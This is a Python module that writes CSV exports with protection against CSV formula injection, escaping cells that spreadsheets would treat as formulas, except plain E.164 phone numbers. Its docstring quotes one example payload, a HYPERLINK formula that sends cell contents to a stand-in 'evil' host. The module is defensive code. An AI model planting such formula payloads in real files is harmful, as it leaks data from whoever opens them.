"""The one CSV writer for every CSV the product writes (exports, rejected import rows).

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets ("CSV injection"): a contact named
``=HYPERLINK("http://evil/?"&A1)`` would run when staff open the export. Such a cell is
written with a leading ``'``, which spreadsheets take as "this is text" and hide.

One exception: a plain E.164 phone number (``+15551234567``) is written as it is. Only
digits follow the ``+``, so no function can run, and exports stay readable by our own
import and by other tools that expect ``+<country><number>``.
"""
from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
E164 = re.compile(r"\+[1-9][0-9]{1,14}")


def neutralise(value: Any) -> Any:
    """``value``, or ``'value`` when a spreadsheet would read it as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not E164.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, stream, **fmtparams):
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream, **fmtparams) -> SafeWriter:
    return SafeWriter(stream, **fmtparams)
